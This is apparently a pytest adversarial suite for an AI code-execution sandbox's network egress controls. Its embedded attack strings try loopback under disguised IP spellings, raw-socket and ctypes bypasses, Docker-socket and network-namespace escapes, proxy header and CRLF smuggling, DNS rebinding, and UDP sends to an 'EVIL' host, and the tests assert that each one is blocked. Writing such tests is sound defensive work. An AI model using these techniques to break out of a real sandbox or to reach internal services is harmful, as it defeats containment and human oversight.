# SPDX-License-Identifier: MIT
"""The ways past soft walls of this product's forebears and of others: to the loopback of the host by every spelling, by
proxies' requests, redirects, names that change, and below every hook. One port of the host is allowed, nothing else."""

from __future__ import annotations

import contextlib
import os
import socket
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from agentbox.egress.rules import EgressRules
from agentbox.policy.parser import parse
from tests.adversarial.egress.far_services import EVIL, PORT_KEEP, REBIND, WEB
from tests.adversarial.egress.ground import SEATS, Ground, serving
from tests.integration.egress.servers import Seen, requests_in
from tests.integration.egress.world import server
from tests.ports import IPV4, IPV6, STREAM, sockets_at_one_port

pytestmark = pytest.mark.linux


@dataclass
class Loopback:
    """Sockets of the near world's loopback. `hits` are those that were reached and must not be, `heard` what the one
    that is allowed was sent."""

    allowed: int
    shut: int
    datagrams: int
    abstract: str
    hits: list[str] = field(default_factory=list)
    heard: list[bytes] = field(default_factory=list)

    @property
    def told(self) -> str:
        """Python that knows them."""
        known = {"ALLOWED": self.allowed, "SHUT": self.shut, "UDP": self.datagrams, "ABSTRACT": self.abstract,
                 "EVIL": EVIL, "WEB": WEB, "KEEP": PORT_KEEP}  # fmt: skip
        return "".join(f"{name} = {value!r}\n" for name, value in known.items())


@pytest.fixture(scope="module")
def loopback(ground: Ground) -> Iterator[Loopback]:
    with contextlib.ExitStack() as stack:

        def made() -> list[socket.socket]:
            allowed = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
            shut, six = sockets_at_one_port((IPV4, STREAM), (IPV6, STREAM))
            for listener in (shut, six):
                stack.enter_context(listener).listen()
            datagrams = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
            datagrams.bind(("127.0.0.1", 0))
            abstract = stack.enter_context(socket.socket(socket.AF_UNIX))
            abstract.bind(f"\0way-{os.getpid()}")
            abstract.listen()
            return [allowed, shut, six, datagrams, abstract]

        allowed, shut, six, datagrams, abstract = ground.threads.submit(made).result()
        found = Loopback(
            allowed.getsockname()[1], shut.getsockname()[1], datagrams.getsockname()[1], f"way-{os.getpid()}"
        )

        def take(listener: socket.socket, name: str) -> None:
            with contextlib.suppress(OSError):
                while True:
                    end, _ = listener.accept()
                    if name:
                        found.hits.append(name)
                        end.close()
                    else:
                        threading.Thread(target=answer, args=(end,), daemon=True).start()

        def answer(end: socket.socket) -> None:
            end.settimeout(10)
            with contextlib.suppress(OSError), end:
                for head in requests_in(end, Seen()):
                    found.heard.append(head)
                    place = f"Location: http://127.0.0.1:{found.shut}/\r\n" if b"/redirect" in head else ""
                    status = "302 Found" if place else "200 OK"
                    end.sendall(f"HTTP/1.1 {status}\r\n{place}Content-Length: 2\r\n\r\nok".encode())

        def hear() -> None:
            with contextlib.suppress(OSError):
                while True:
                    datagrams.recv(100)
                    found.hits.append("datagram")

        for listener, name in ((allowed, ""), (shut, "TCP"), (six, "IPv6"), (abstract, "abstract")):
            threading.Thread(target=take, args=(listener, name), daemon=True).start()
        threading.Thread(target=hear, daemon=True).start()
        yield found


@pytest.fixture(scope="module")
def field_of_attack(ground: Ground, loopback: Loopback) -> Iterator[Ground]:
    """The ground, with servers whose operator allows that one port."""
    kept = dict(ground.urls)
    with contextlib.ExitStack() as stack:
        for name, standing in ground.standings.items():
            allowlist = f"127.0.0.1:{loopback.allowed},web.example,{REBIND}"
            ground.urls[name] = stack.enter_context(
                serving(ground, name, ground.directory(standing.user), AGENTBOX_EGRESS_ALLOWLIST=allowlist)
            )
        yield ground
        ground.urls.update(kept)


LOOPBACK = """
def heard(connect):
    end = connect()
    end.settimeout(2)
    return (end.recv(6) and "HEARD" or "EOF")
@attempt
def plainly(): return heard(lambda: socket.create_connection(("127.0.0.1", SHUT), 2))
@attempt
def by_six(): return heard(lambda: socket.create_connection(("::1", SHUT), 2))
for name in ("2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1", "127.1", "127.0.1", "017700000001", "127.5.5.5",
             "0.0.0.0", "0", "localhost", "LOCALHOST", "localhost.", "a.localhost", "::ffff:127.0.0.1", "[::1]",
             "ip6-localhost", "127.0.0.1.", "localhost.localdomain", socket.gethostname()):
    @attempt
    def spelling(): return heard(lambda: socket.create_connection((name, SHUT), 2))
    told["spelled " + name] = told.pop("spelling")
@attempt
def below():
    import _socket
    end = _socket.socket(2, 1); end.settimeout(2)
    _socket.socket.connect(end, ("127.0.0.1", SHUT)); return (end.recv(6) and "HEARD" or "EOF")
@attempt
def by_the_class():
    end = socket.socket(2, 1); end.settimeout(2)
    assert socket.socket.__mro__[1].connect_ex(end, ("127.0.0.1", SHUT)) == 0
    return (end.recv(6) and "HEARD" or "EOF")
@attempt
def by_the_c_library():
    c = ctypes.CDLL(None, use_errno=True)
    end = c.socket(2, 1, 0)
    address = struct.pack("<H", 2) + struct.pack(">H", SHUT) + bytes([127, 0, 0, 1]) + bytes(8)
    assert c.connect(end, address, 16) == 0
    return "HEARD"
@attempt
def without_proxies():
    import urllib.request
    for name in [name for name in os.environ if name.lower().endswith("_proxy")]: del os.environ[name]
    return urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
        f"http://127.0.0.1:{SHUT}/", timeout=2).status
@attempt
def looked_up_for_another_port():
    where = socket.getaddrinfo("127.0.0.1", None)[0][4][0]
    return heard(lambda: socket.create_connection((where, SHUT), 2))
@attempt
def datagram():
    end = socket.socket(2, 2); end.settimeout(1); end.sendto(b"x", ("127.0.0.1", UDP))
    return (end.recv(9) and "HEARD" or "EOF")
@attempt
def message():
    end = socket.socket(2, 2); end.settimeout(1)
    end.sendmsg([b"x"], [], 0, ("127.0.0.1", UDP))
    return (end.recv(9) and "HEARD" or "EOF")
@attempt
def datagram_out():
    end = socket.socket(2, 2); end.sendto(b"x", (EVIL, 53000)); return "SENT"
@attempt
def abstract():
    end = socket.socket(1, 1); end.connect("\\0" + ABSTRACT); return "HEARD"
@attempt
def docker():
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        try: socket.socket(1, 1).connect(path); return "HEARD"
        except OSError: pass
@attempt
def parent_s_network():
    c = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1):
        try:
            if c.setns(os.open(f"/proc/{pid}/ns/net", 0), 0x40000000) == 0: return "ENTERED"
        except OSError: pass
@attempt
def name_of_another(): return socket.gethostbyname("secret.evil.example")
@attempt
def literal(): return talk(EVIL, KEEP, b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", 2)
@attempt
def redirect():
    import urllib.request
    return "FOLLOWED %d" % urllib.request.urlopen(f"http://127.0.0.1:{ALLOWED}/redirect", timeout=3).status
@attempt
def other_port():
    return talk("web.example", 22, b"GET / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n", 2)
@attempt
def allowed():
    return talk("127.0.0.1", ALLOWED, f"GET /fine HTTP/1.1\\r\\nHost: 127.0.0.1:{ALLOWED}\\r\\n\\r\\n".encode(), 2)
"""

PROXY = """
A = f"127.0.0.1:{ALLOWED}"
host, _, port = A.rpartition(":")
hello = f"GET /hello HTTP/1.1\\r\\nHost: {A}\\r\\n\\r\\n"
def ask(way, text, skip=0):
    told[way] = talk("127.0.0.1", ALLOWED, text.encode(), 3)[skip:]
asked = []
for name in (f"denied.test:{SHUT}", f"127.0.0.1:{SHUT}", f"[::1]:{SHUT}", f"2130706433:{SHUT}",
             f"[::ffff:127.0.0.1]:{SHUT}", f"localhost:{SHUT}", f"0x7f.1:{SHUT}"):
    asked += [
        (f"connect {name}", f"CONNECT {name} HTTP/1.1\\r\\nHost: {A}\\r\\n\\r\\n"),
        (f"target {name}", f"GET http://{name}/to-shut HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n"),
        (f"mixed {name}", f"GET http://{A}/to-shut HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n"),
        (f"mixed too {name}", f"GET http://{name}/to-shut HTTP/1.1\\r\\nHost: {A}\\r\\n\\r\\n"),
        (f"second {name}", hello + f"GET http://{name}/to-shut HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n", 40),
    ]
for number, form in enumerate((
    f"CONNECT denied.test:{SHUT}\\r\\nHost: {A} HTTP/1.1\\r\\n\\r\\n",
    f"CONNECT denied.test:{SHUT}\\n.{A} HTTP/1.1\\r\\nHost: {A}\\r\\n\\r\\n",
    f"CONNECT denied.test:{SHUT}%0d%0a.{A} HTTP/1.1\\r\\nHost: {A}\\r\\n\\r\\n",
    f"CONNECT denied.test:{SHUT} .{A} HTTP/1.1\\r\\nHost: {A}\\r\\n\\r\\n",
    f"GET http://denied.test:{SHUT}\\r.{A}/to-shut HTTP/1.1\\r\\nHost: {A}\\r\\n\\r\\n",
    f"GET /to-shut HTTP/1.1\\r\\nHost: {A}\\r\\nHost: denied.test\\r\\n\\r\\n",
    f"GET http://{A}@denied.test:{SHUT}/to-shut HTTP/1.1\\r\\nHost: {A}\\r\\n\\r\\n",
)):
    asked.append((f"form {number}", form))
several(ask, asked)
@attempt
def fine(): return talk("127.0.0.1", ALLOWED, hello.encode(), 3)
"""


def test_old_ways_to_the_host_are_shut_and_seen(field_of_attack: Ground, seat: str, loopback: Loopback) -> None:
    ground = field_of_attack
    outcome = ground.attack(seat, loopback.told + LOOPBACK, f"127.0.0.1:{loopback.allowed}", f"web.example:{PORT_KEEP}")
    told = outcome.told
    assert told.pop("allowed").startswith("HTTP/1.1 200"), outcome
    assert loopback.hits == []
    bad = [
        f"{k}: {v}"
        for k, v in told.items()
        if any(word in str(v) for word in ("HEARD", "EOF", "SENT", "ENTERED", "FOLLOWED", "HTTP/1.1 2"))
    ]
    assert bad == []
    denied = outcome.denied()
    for target in (f"{EVIL}:{PORT_KEEP}", "secret.evil.example", "web.example:22"):
        assert target in denied, denied
    assert any(b"/redirect" in head for head in loopback.heard)
    dropped = [one for one in outcome.records if one["args"].get("effect") == "net.dropped"]
    assert dropped, "datagrams outwards are counted"


def test_old_ways_through_a_proxy_are_shut_and_seen(field_of_attack: Ground, seat: str, loopback: Loopback) -> None:
    loopback.heard.clear()
    outcome = field_of_attack.attack(seat, loopback.told + PROXY, f"127.0.0.1:{loopback.allowed}")
    told = outcome.told
    assert "200 OK" in told.pop("fine")
    for name, said in told.items():
        assert "HTTP/1.1 403" in said or "HTTP/1.1 400" in said, (name, said)
    assert loopback.hits == []
    assert not [head for head in loopback.heard if b"to-shut" in head or b"CONNECT" in head]
    assert f"denied.test:{loopback.shut}" in outcome.denied()


def test_name_that_changes_between_answers_never_leads_inside(field_of_attack: Ground, seat: str) -> None:
    code = f"""
for turn in range(6):
    @attempt
    def once():
        return talk({REBIND!r}, {PORT_KEEP}, b"GET / HTTP/1.1\\r\\nHost: {REBIND}:{PORT_KEEP}\\r\\n\\r\\n", 3)[:12]
    told[f"turn {{turn}}"] = told.pop("once")
    time.sleep(1.1)
"""
    outcome = field_of_attack.attack(seat, code, f"{REBIND}:{PORT_KEEP}")
    assert all(said in ("HTTP/1.1 204", "HTTP/1.1 403", "HTTP/1.1 502") for said in outcome.told.values()), outcome.told
    for args in outcome.seen("net.connect"):
        assert args.get("address") in (None, WEB), args


@pytest.mark.parametrize("spelling", [[], [""], [" "], None, "", [None], ["."], {}, "-", 0, False])
@pytest.mark.parametrize("standing", ["root", "user"])
def test_no_spelling_of_an_empty_allowlist_opens_anything(
    field_of_attack: Ground, loopback: Loopback, spelling: Any, standing: str
) -> None:
    code = (
        f"import socket\ntry: print(socket.create_connection(('{WEB}', {PORT_KEEP}), 2))\nexcept OSError: print('shut')"
    )
    body: dict[str, Any] = {"code": code}
    if spelling != "-":
        body["egress_allowlist"] = spelling
    answer = field_of_attack.world.post(f"{field_of_attack.urls[standing]}/v1/run", body)
    assert answer.status_code in (200, 400, 422), answer.text
    assert loopback.hits == []
    if answer.status_code == 200:
        assert answer.json()["network_isolated"] is True


@pytest.mark.parametrize(
    ("rule", "host", "port", "allowed"),
    [
        ("*.example.org", "a.example.org", 443, True), ("*.example.org", "b.a.example.org", 443, True),
        ("*.example.org", "example.org", 443, False), ("*.example.org", "evilexample.org", 443, False),
        ("*.example.org", "example.org.evil.test", 443, False), ("*.example.org", "a.example.org.", 443, True),
        ("a.example.org", "A.Example.ORG", 443, True), ("a.example.org", "xa.example.org", 443, False),
        ("a.example.org", "b.a.example.org", 443, False), ("a.example.org", "axexample.org", 443, False),
        ("127.0.0.1:8080", "127.0.0.1", 8080, True), ("127.0.0.1:8080", "127.0.0.1", 8081, False),
        ("127.0.0.1", "2130706433", 80, False), ("10.0.0.1", "0x0a000001", 80, False),
        ("example.org", "example.org@evil.test", 443, False), ("example.org", "evil.test#example.org", 443, False),
        ("example.org", "", 443, False), ("example.org:443", "example.org", 22, False),
        ("example.org", "example.org", 22, True), ("*", "anything.test", 443, True),
        ("*", "169.254.169.254", 80, False),
        ("a.example.org", "169.254.169.254", 80, False), ("example.org", "example.org\0.evil.test", 443, False),
    ],
)  # fmt: skip
def test_rule_allows_these_hosts_and_ports_and_no_others(rule: str, host: str, port: int, allowed: bool) -> None:
    rules = EgressRules.of(parse(f"net: {rule}\n", root="/"))
    assert rules.connect(host, port).allowed is allowed


def test_a_backend_that_cannot_hold_an_allowlist_says_so(ground: Ground) -> None:
    settings = {"AGENTBOX_EGRESS_ALLOWLIST": "web.example", "AGENTBOX_ALLOW_UNISOLATED": "1"}
    arguments = ("--backend", "subprocess")
    with server(ground.world, ground.directory(None), (sys.executable,), *arguments, **settings) as url:
        answer = ground.world.post(f"{url}/v1/run", {"code": "print(1)", "egress_allowlist": ["web.example"]})
    body = answer.json()
    if answer.status_code == 200:
        assert body["network_isolated"] is False
        assert body["enforcement"]["network"] in ("interpreter", "none")
    else:
        assert body["hint"]


# A request cannot ask for a witness of everything.
@pytest.mark.parametrize("seat", [seat for seat in SEATS if seat.startswith("run")], indirect=True)
def test_the_kernel_s_witness_shows_the_ways_that_the_gateway_cannot_see(ground: Ground, seat: str) -> None:
    code = """
import ctypes, os, socket
c = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1):
    try: print("ENTERED" if c.setns(os.open(f"/proc/{pid}/ns/net", 0), 0x40000000) == 0 else "shut")
    except OSError: print("shut")
for path in ("/var/run/docker.sock", "/run/docker.sock"):
    try: socket.socket(1, 1).connect(path); print("HEARD")
    except OSError: print("shut")
"""
    outcome = ground.run(seat, code, "web.example", options=("--witness", "all"))
    assert outcome.stdout.split() == ["shut"] * 4
    assert "/proc/1/ns/net" in {one.get("path") for one in outcome.seen("fs.open_read", "kernel")}
    assert "/var/run/docker.sock" in {one.get("path") for one in outcome.seen("net.connect", "kernel")}
